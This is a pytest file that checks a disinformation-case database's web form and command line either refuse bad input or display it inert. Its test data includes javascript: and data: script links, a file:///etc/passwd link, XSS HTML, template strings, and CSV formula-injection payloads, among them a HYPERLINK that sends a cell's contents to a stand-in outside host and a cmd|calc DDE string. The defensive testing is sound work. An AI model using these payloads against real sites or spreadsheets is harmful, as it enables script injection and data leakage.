"""What people should not enter, entered by web form and by command line alike: refused in words, or shown inert."""

import csv
import html
import json
import re
from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from sqlalchemy import Engine, func
from sqlmodel import select
from streamlit.components.v2 import manifest_scanner
from streamlit.runtime.context import ContextProxy
from streamlit.testing.v1 import AppTest

from cases import accounts, draft, people, review, setup
from cases.browser import SESSION_COOKIE
from cases.cli import main
from cases.fields import definitions
from cases.pages.entering.form_state import PREFIX, put
from cases.read import read_case
from cases.record import Content
from cases.views import CaseView
from db.access import viewing
from db.engine import PROJECT, reading, shared_engine, transaction, unguarded
from db.tables import Case
from db.viewer import ANONYMOUS, Viewer
from db.vocabulary import Decision
from tests.conftest import Databases, copied

Entered = Mapping[str, Any]
"""What is entered, each value by the path of its field."""

FINE: Entered = {
    "texts.0.lang": "en",
    "texts.0.title": "Forged poll in a village newsletter",
    "texts.0.summary": "A newsletter printed a poll that no institute had taken.",
    "period_from": "2024-01",
    "countries": ["TW"],
    "target_groups": ["voters"],
    "tactics": ["PW33"],
    "channels": ["newspaper"],
    "sources.0.title": "Own observation",
    "information_credibility": "2",
    "audience": "clear",
}
MEGABYTE = "謠言 rumour " * 100_000


@dataclass(frozen=True)
class Refused:
    """Something that must be refused in words.

    Attributes:
        change: What is entered otherwise than in `FINE`; None leaves a field empty.
        field: The field that must be named, and beside which the web form must say it; empty for the whole.
        says: What must be said; any words where it depends on how it was entered.
        ways: How it can be entered at all: a form always sends some value for a few fields.
    """

    change: Entered
    field: str
    says: str = ""
    ways: tuple[str, ...] = ("form", "cli")


@dataclass(frozen=True)
class Kept:
    """Something that may be stored, as long as it is shown as what it is.

    Attributes:
        text: What is entered as title, as summary and as title of the source.
        stored: What must be stored, where that differs.
        ways: How it can be entered.
    """

    text: str
    stored: str = ""
    ways: tuple[str, ...] = ("form", "cli")

    @property
    def change(self) -> Entered:
        """What is entered otherwise than in `FINE`."""
        return dict.fromkeys(("texts.0.title", "texts.0.summary", "sources.0.title"), self.text)


def _missing(path: str, **beside: Any) -> Refused:
    says = "Choose at least one tactic" if path == "tactics" else "Fill this in."
    return Refused({**{name.replace("__", "."): value for name, value in beside.items()}, path: None}, path, says)


def _link(url: str, path: str = "sources.0.url") -> Refused:
    return Refused({path: url}, path, "Give a full web address")


MISSING = {
    path: _missing(path)
    for path in (
        "texts.0.title",
        "texts.0.summary",
        "period_from",
        "countries",
        "target_groups",
        "tactics",
        "channels",
        "information_credibility",
    )
} | {
    "sources": Refused({"sources.0.title": None}, "sources", "Fill this in.", ("cli",)),
    "sources.0.title": Refused({"sources.0.title": None}, "sources.0.title", "Fill this in.", ("form",)),
    "sources.0.title beside a link": _missing("sources.0.title", sources__0__url="https://example.org/a"),
    "texts.0.lang": Refused({"texts.0.lang": None}, "texts.0.lang", "Fill this in.", ("cli",)),
    "places.0.name": _missing("places.0.name", places__0__country="TW"),
    "texts.1.summary": _missing("texts.1.summary", texts__1__lang="ja", texts__1__status="human", texts__1__title="噂"),
    "responses.0.countermeasure": _missing("responses.0.countermeasure", responses__0__texts__0__description="Denied."),
    "responses.0.texts.0.description": Refused(
        {"responses.0.countermeasure": "CM04", "responses.0.texts.0.lang": "en"},
        "responses.0.texts.0.description",
        "Fill this in.",
        ("cli",),
    ),
    "responses.0.outcomes.0.result": _missing(
        "responses.0.outcomes.0.result", responses__0__countermeasure="CM04", responses__0__outcomes__0__harm="minor"
    ),
    "responses.0.outcomes.0.texts.0.statement": _missing(
        "responses.0.outcomes.0.texts.0.statement",
        responses__0__countermeasure="CM04",
        responses__0__outcomes__0__result="stopped",
        responses__0__outcomes__0__texts__0__method="Own count.",
    ),
    "references.0.scheme": _missing("references.0.scheme", references__0__value="X-1"),
    "references.0.value": _missing("references.0.value", references__0__scheme="demo"),
    "relations.0.case": _missing("relations.0.case", relations__0__kind="continues"),
    "withheld.0.field": _missing("withheld.0.field", withheld__0__reason="privacy"),
}

REFUSED = {f"without {name}": refused for name, refused in MISSING.items()} | {
    "30 February": Refused({"period_from": "2024-02-30"}, "period_from", "There is no such day as 2024-02-30."),
    "29 February of no leap year": Refused({"period_from": "2023-02-29"}, "period_from", "There is no such day"),
    "31 April as the end": Refused({"period_to": "2024-04-31"}, "period_to", "There is no such day"),
    "a year to come": Refused({"period_from": "3024"}, "period_from", "The year must lie between"),
    "a year that is no number": Refused({"period_from": "20x4"}, "period_from", "Write the date as 2024"),
    "month 13": Refused({"period_from": "2024-13"}, "period_from", "There is no such day as 2024-13.", ("cli",)),
    "a day without its month": Refused({"period_from": "2024-??-05"}, "period_from"),
    "an end before the beginning": Refused({"period_to": "2023-12"}, "period_to", "The end lies before"),
    "an unknown tactic": Refused({"tactics": ["PW99"]}, "tactics"),
    "an unknown country": Refused({"countries": ["ZZ"]}, "countries"),
    "an unknown channel": Refused({"channels": ["carrier_pigeon"]}, "channels"),
    "an unknown grade": Refused({"information_credibility": "9"}, "information_credibility"),
    "an unknown audience": Refused({"audience": "everyone"}, "audience", "not in the list", ("cli",)),
    "a link that runs": _link("javascript:alert(1)"),
    "a link that runs, in capitals": _link("JAVASCRIPT:alert(1)//https://example.org"),
    "a link that runs, with a tab": _link("java\tscript:alert(1)"),
    "a link that runs, behind a zero width": _link("\u200bjavascript:alert(1)"),
    "a link that holds its page": _link("data:text/html,<script>alert(1)</script>"),
    "a link without a colon": _link("https//example.org"),
    "a link without a host": _link("https://"),
    "a link with half a bracket": _link("http://[::1"),
    "a link with a password": _link("https://user:secret@example.org/"),
    "a link with a blank": _link("https://exa mple.org/"),
    "a link with no scheme": _link("//example.org/x"),
    "a link to a file": _link("file:///etc/passwd"),
    "an archived link that runs": _link("javascript:alert(1)", "sources.0.archived_url"),
    "a megabyte as title": Refused({"texts.0.title": MEGABYTE}, "", "This is too much text for one case."),
    "a megabyte as summary": Refused({"texts.0.summary": MEGABYTE}, "", "This is too much text for one case."),
    "a megabyte as narrative": Refused({"texts.0.narrative": MEGABYTE}, "", "This is too much text for one case."),
    "a title a little too long": Refused({"texts.0.title": "x" * 201}, "texts.0.title", "Shorten this to 200"),
    "a title of nothing one can see": Refused(
        {"texts.0.title": "\u200b\u202e \ufeff"}, "texts.0.title", "Fill this in."
    ),
}
KEPT = {
    "what is fine": Kept("Forged poll in a village newsletter"),
    "a formula": Kept('=HYPERLINK("https://outside.example/?"&A1,"look")'),
    "a formula that begins with +": Kept("+1+1"),
    "a formula that begins with -": Kept("-2+3+cmd|' /C calc'!A0"),
    "a formula that begins with @": Kept("@SUM(A1:A9)"),
    "right-to-left": Kept("\u202egnp.exe\u202c report", "gnp.exe report"),
    "zero width": Kept("pass\u200bword \ufeffand\u2060more", "password andmore"),
    "control characters": Kept("red\x1b[31m alarm\x07", "red[31m alarm"),
    "HTML": Kept("<script>window.hit=1</script><img src=https://outside.example/x.png onerror='window.hit=1'>"),
    "an entity": Kept("&lt;b&gt; &amp; &#x202e;"),
    "Markdown": Kept("![x](https://outside.example/x.png) [y](https://outside.example) :red[z] **w** $v$ `u`"),
    "terminal markup": Kept("[bold red]alarm[/bold red] [/] [link=https://outside.example]x"),
    "a template": Kept("{0} {title} %s ${HOME} {{ 7*7 }}"),
}
INPUTS: dict[str, Refused | Kept] = {**REFUSED, **KEPT}


# --- the two ways in --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Answer:
    """What came of sending a case.

    Attributes:
        public_id: The id of the case; empty when it was refused.
        said: All that was said against it.
        beside: What was said of one field, where it stands.
    """

    public_id: str
    said: str
    beside: Callable[[str], str]


@dataclass(frozen=True)
class Centre:
    """A centre of one steward."""

    engine: Engine
    steward: Viewer


@pytest.fixture(scope="module")
def centre(databases: Databases) -> Iterator[Centre]:
    """Yield a centre that form and command line reach as their own, with its steward at the browser."""
    with copied(databases, "prepared") as engine, pytest.MonkeyPatch.context() as patch:
        patch.setenv("DATABASE_URL", engine.url.render_as_string(hide_password=False))
        shared_engine.cache_clear()
        with transaction(engine) as session:
            member_id = setup.first_steward(session)
            steward = people.viewer_of_member(session, member_id)
            secret = accounts.sign_in(session, accounts.issue_link(session, member_id))
        # Streamlit's way to run a page without a browser has no cookies of its own.
        patch.setattr(ContextProxy, "cookies", property(lambda _self: {SESSION_COOKIE: secret}))
        # For every page it opens, it would read the descriptions of all packages installed, in search of components.
        patch.setattr(manifest_scanner, "scan_component_manifests", list)
        yield Centre(engine, steward)
        reading(shared_engine()).dispose()
        shared_engine().dispose()
        shared_engine.cache_clear()


def by_command_line(entered: Entered, _shown: str, folder: Path) -> Answer:
    """Send a case as a file."""
    whole: dict[str, Any] = {}
    for path, value in entered.items():
        put(whole, path, value)
    file = folder / "case.json"
    file.write_text(json.dumps(whole), encoding="utf-8")
    answer = CliRunner().invoke(main, ["submit", str(file), "--json", "--lang", "en"])
    if answer.exit_code == 0:
        return Answer(json.loads(answer.stdout)["id"], "", lambda _path: "")
    assert answer.exit_code == 2, answer.output
    lines = [line.partition(": ") for line in answer.stderr.splitlines()]

    def beside(path: str) -> str:
        return "\n".join(said for name, _, said in lines if re.sub(r"\.\d+$", "", name) == path or name == path)

    return Answer("", answer.stderr, beside)


def open_page(name: str, **query: str) -> AppTest:
    """Open a page of the product without a browser."""
    app = AppTest.from_file(str(PROJECT / "cases" / "pages" / "frame.py"), default_timeout=60)
    app.switch_page(name)
    for key, value in query.items():
        app.query_params[key] = value
    return app.run()


def _widget(app: AppTest, key: str) -> Any:
    return next((node for node in app.main if getattr(node, "key", None) == key), None)


def _reach(app: AppTest, path: str, key: str) -> Any:
    """Return a widget, opening the long form and adding the rows it needs."""
    if _widget(app, key) is None:
        app.session_state["contribute:detail"] = True
        app.run()
    parts = path.split(".")
    for place in range(1, len(parts)):
        more = _widget(app, f"more:{'.'.join(parts[:place])}")
        if _widget(app, key) is None and more is not None:
            more.click().run()
    found = _widget(app, key)
    assert found is not None, f"the form doesn't ask for {path}"
    return found


def _set(app: AppTest, path: str, key: str, value: Any) -> None:
    """Set a widget. What a list to choose one from doesn't offer can't be entered; a list of several takes it."""
    widget = _reach(app, path, key)
    if not isinstance(value, list) and hasattr(widget, "options") and widget.format_func(value) not in widget.options:
        return
    widget.set_value(value)


def _add_tactics(app: AppTest, tactics: list[str]) -> None:
    for tactic in tactics:
        app.text_input(key="find:tactics").set_value(tactic).run()
        button = _widget(app, f"add:{tactic}")
        if button is not None:
            button.click().run()


def fill(app: AppTest, entered: Entered) -> None:
    """Enter a case into the form, each field by its own widget."""
    for path, value in entered.items():
        if value is None:
            continue
        if path == "tactics":
            _add_tactics(app, value)
        elif path.startswith("period_"):
            year, _, rest = value.partition("-")
            part, _, day = rest.partition("-")
            _set(app, path, f"{PREFIX}{path}:year", year)
            if part.isdigit():
                _set(app, path, f"{PREFIX}{path}:part", str(int(part)))
            if day:
                _set(app, path, f"{PREFIX}{path}:day", int(day))
        else:
            _set(app, path, PREFIX + path, value)
    app.run()


def _problems(nodes: Iterable[Any]) -> list[str]:
    bodies = (node.proto.body for node in nodes if node.type == "html")
    return [html.unescape(found) for body in bodies for found in re.findall(r'class="fc-problem".*?>(.*?)</p>', body)]


def _beside(app: AppTest, path: str) -> str:
    """Return what is said between a field's widget and the next field's."""
    own = "find:tactics" if path == "tactics" else PREFIX + path
    nodes: list[Any] = []
    for node in app.main:
        key = getattr(node, "key", None) or ""
        if key == own or key.startswith(f"{own}:"):
            nodes = [node]
        elif nodes and key.startswith((PREFIX, "find:")):
            break
        elif nodes:
            nodes.append(node)
    return "\n".join(_problems(nodes))


def by_form(entered: Entered, shown: str, _folder: Path) -> Answer:
    """Send a case by the web form."""
    app = open_page("contribute.py")
    fill(app, entered)
    app.button(key="check").click().run()
    assert not app.exception
    if "step" not in app.query_params:
        return Answer("", "\n".join(_problems(app.main)), lambda path: _beside(app, path))
    show_inert(app, shown)
    for box in app.checkbox:
        box.check()
    app.button(key="send").click().run()
    assert not app.exception
    sent = app.query_params["sent"]
    return Answer(sent[0] if isinstance(sent, list) else sent, "", lambda _path: "")


WAYS = {"form": by_form, "cli": by_command_line}


# --- what must come of it ---------------------------------------------------------------------------------------


def show_inert(app: AppTest, text: str) -> None:
    """Check that a page shows a text as it was written, in escaped HTML and nowhere else."""
    assert not app.exception
    escaped = html.escape(text, quote=True)
    shown = False
    for node in app.main:
        if node.type == "html":
            shown = shown or escaped in node.proto.body
            assert escaped == text or text not in node.proto.body
        elif getattr(node, "proto", None) is not None:
            assert text.encode() not in node.proto.SerializeToString(), f"{node.type} could take it for Markdown"
    assert shown


def _count(centre: Centre) -> int:
    with unguarded(centre.engine) as session:
        return session.exec(select(func.count()).select_from(Case)).one()


def _forget_drafts(centre: Centre) -> None:
    with viewing(centre.engine, centre.steward) as session:
        lines = draft.mine(session)
    with transaction(centre.engine) as session:
        for line in lines:
            draft.discard(session, centre.steward, line.id)


def _run(*arguments: str) -> str:
    answer = CliRunner().invoke(main, [*arguments, "--lang", "en"])
    assert answer.exit_code == 0, answer.output
    return answer.stdout


def _publish(centre: Centre, public_id: str) -> CaseView:
    """Publish a case as a centre's only member can, and return it as visitors read it."""
    with viewing(centre.engine, centre.steward) as session:
        version = read_case(session, public_id, proposed=True).version
    with transaction(centre.engine) as session:
        review.decide(session, centre.steward, public_id, Decision.PUBLISH, version=version)
    with viewing(centre.engine, ANONYMOUS) as session:
        return read_case(session, public_id)


def _check_kept(centre: Centre, public_id: str, text: str) -> None:
    show_inert(open_page("review.py", id=public_id), text)
    case = _publish(centre, public_id)
    assert case.content is not None
    assert case.content.original.title == case.content.original.summary == case.content.sources[0].title == text
    show_inert(open_page("case.py", id=public_id), text)
    show_inert(open_page("cases.py", q=public_id), text)
    assert "".join(text.split()) in "".join(_run("show", public_id).split())
    rows = list(csv.reader(_run("export", "csv", "-o", "-").removeprefix("\ufeff").splitlines()))
    assert len(rows) > 1
    assert [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))] == []


# What is refused never reaches the database, so that is tried on one engine; what is stored has to fit both.
TRIED = [
    (backend, name, way)
    for name, what in INPUTS.items()
    for way in what.ways
    for backend in ("sqlite", "postgresql")
    if isinstance(what, Kept) or backend == "sqlite"
]


@pytest.mark.parametrize(("backend", "name", "way"), TRIED, indirect=["backend"], scope="session")
def test_bad_input_is_refused_in_words_or_shown_inert(centre: Centre, name: str, way: str, tmp_path: Path) -> None:
    what = INPUTS[name]
    before = _count(centre)
    shown = what.stored or what.text if isinstance(what, Kept) else "nothing"
    answer = WAYS[way]({**FINE, **what.change}, shown, tmp_path)
    if isinstance(what, Refused):
        assert answer.public_id == ""
        assert what.says in (answer.beside(what.field) if what.field else answer.said)
        assert answer.beside(what.field) if what.field else answer.said
        assert _count(centre) == before
        _forget_drafts(centre)
    else:
        assert _count(centre) == before + 1
        _check_kept(centre, answer.public_id, shown)


def test_every_field_a_case_cannot_do_without_is_tried() -> None:
    tried = {re.sub(r"\.\d+", "", refused.field) for refused in MISSING.values()}
    needed = {found.path for found in definitions(Content) if found.about.needed and not found.group}
    # The language of a text further in is that of the case unless somebody says otherwise.
    assert needed - tried == {"responses.texts.lang", "responses.outcomes.texts.lang"}
